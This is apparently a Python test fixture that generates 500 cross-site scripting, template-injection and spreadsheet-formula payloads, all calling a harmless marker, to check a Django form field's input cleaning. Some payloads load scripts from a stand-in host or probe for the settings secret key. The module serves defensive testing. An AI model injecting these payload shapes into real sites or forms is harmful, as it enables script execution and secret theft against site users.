"""Five hundred texts that want to be markup: known shapes, each dressed differently, at most 80 characters.

Any of them carries MARK where code would stand, so that what comes to life can be told from what the page is made of.
"""

from collections.abc import Iterator

from django.core.exceptions import ValidationError

from accounts.fields import clean_text

MARK = "zq_7"
COUNT = 500
LONGEST = 80

TAGS = """
<script>zq_7()</script>
<script src=//zq_7.example></script>
<img src=x onerror=zq_7()>
<svg onload=zq_7()>
<svg><script>zq_7()</script></svg>
<svg><animate onbegin=zq_7() attributeName=x>
<body onload=zq_7()>
<iframe src=javascript:zq_7()>
<iframe srcdoc='<script>zq_7()</script>'>
<object data=javascript:zq_7()>
<embed src=javascript:zq_7()>
<math href=javascript:zq_7()>x</math>
<a href=javascript:zq_7()>zq_7</a>
<a href=data:text/html,zq_7>zq_7</a>
<form action=javascript:zq_7()><button>zq_7
<input autofocus onfocus=zq_7()>
<details open ontoggle=zq_7()>
<video><source onerror=zq_7()>
<audio src=x onerror=zq_7()>
<marquee onstart=zq_7()>zq_7</marquee>
<style>@import 'zq_7.css';</style>
<link rel=stylesheet href=//zq_7.example>
<meta http-equiv=refresh content=0;url=//zq_7.example>
<base href=//zq_7.example>
<template><img src=zq_7></template>
<dialog open>zq_7</dialog>
<button formaction=javascript:zq_7()>zq_7
<textarea autofocus onfocus=zq_7()>
<noscript><p title="</noscript><img src=x onerror=zq_7()>">
<div hx-get=/zq_7 hx-trigger=load>
<div data-dialog data-copy=zq_7>
<p style=background:url(//zq_7.example)>
"""
"""Elements that run, load or send something."""

BREAKOUTS = ("", '"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</td></tr></table>")
"""What stands before an element to get out of an attribute, a comment or another element."""

ATTRIBUTES = """
" onmouseover="zq_7()
' onmouseover='zq_7()
` onmouseover=`zq_7()
" autofocus onfocus="zq_7()
" style="x:expression(zq_7())
" data-dialog href="javascript:zq_7()
" hx-get="/zq_7" hx-trigger="load
" accesskey="x" onclick="zq_7()
"><zq_7>
"/onclick=zq_7()//
\" onclick=zq_7()//
"""
ADDRESSES = """
javascript:zq_7()
JaVaScRiPt:zq_7()
java\tscript:zq_7()
&#106;avascript:zq_7()
&#x6A&#x61vascript:zq_7()
javascript&colon;zq_7()
data:text/html;base64,zq_7
vbscript:zq_7
//zq_7.example/x
\\\\zq_7.example\\x
blob:zq_7
"""
TEMPLATES = """
{{ zq_7 }}
{% include "zq_7" %}
{{ settings.SECRET_KEY }} zq_7
{% load zq_7 %}
{# zq_7 #}
{{ 7|zq_7 }}
${zq_7()}
#{zq_7()}
<%= zq_7() %>
{{constructor.constructor('zq_7()')()}}
{{= zq_7 }}
[[zq_7]]
%(zq_7)s
%s %d %(name)s zq_7
{0} {zq_7} {self.__class__}
"""
ENTITIES = """
&lt;script&gt;zq_7()&lt;/script&gt;
&amp;lt;img src=x onerror=zq_7()&amp;gt;
&#60;img src=x onerror=zq_7()&#62;
&#x3c;svg onload=zq_7()&#x3e;
&quot; onclick=&quot;zq_7()
&#34;&#62;zq_7
&NewLine;zq_7&Tab;
&lt&gt&quotzq_7
%3Cscript%3Ezq_7()%3C/script%3E
\\u003cscript\\u003ezq_7()\\u003c/script\\u003e
\\x3cimg src=x onerror=zq_7()\\x3e
+ADw-script+AD4-zq_7()+ADw-/script+AD4-
"""
TRICKS = (
    "\u202e<img src=x onerror=zq_7()>\u202c",
    "\u2066<zq_7>\u2069",
    "zq_7\u200b<script>",
    "\ufeff<script>zq_7()</script>",
    "\uff1cscript\uff1ezq_7()\uff1c/script\uff1e",
    "\u2039script\u203azq_7()",
    "\u02bcimg src=zq_7\u02bc",
    "<scr\u200dipt>zq_7()</script>",
    "\u2028zq_7()\u2029",
    "<\u0130MG src=zq_7>",
    "<\u017fcript>zq_7()</\u017fcript>",
    "\u0000zq_7".replace("\u0000", "\u2400"),
    "<script>zq_7()</script\u00a0>",
    "zq_7\u0338<b>",
    "\U000e0001zq_7\U000e007f",
    '=HYPERLINK("//zq_7.example","x")',
    "@SUM(zq_7)",
    "+zq_7()",
    "-zq_7()",
)


def payloads() -> list[str]:
    """Return COUNT different texts: every shape as it is, then the dressed ones in turn until there are enough."""
    found = dict.fromkeys([*_lines(ATTRIBUTES), *_lines(ADDRESSES), *_lines(TEMPLATES), *_lines(ENTITIES), *TRICKS])
    found |= dict.fromkeys(_lines(TAGS))
    for text in _dressed():
        if len(found) == COUNT:
            break
        if len(text) <= LONGEST:
            found[text] = None
    return list(found)


def acceptable(text: str) -> bool:
    """Whether a form takes `text` for a name; the others reach a page only from rows that are older than the form."""
    try:
        return clean_text(text) == text
    except ValidationError:
        return False


def _lines(text: str) -> list[str]:
    return text.strip("\n").splitlines()


def _dressed() -> Iterator[str]:
    for tag in _lines(TAGS):
        for breakout in BREAKOUTS[1:]:
            yield breakout + tag
        yield tag.upper().replace(MARK.upper(), MARK)
        yield tag.replace("<", "<\n", 1).replace("\n", " ")
        yield tag.replace(" ", "/", 1)
        yield tag.rstrip(">")
        yield f"<{tag}"
        yield tag.replace("=", " = ")
        yield tag.replace("javascript:", " javascript:")
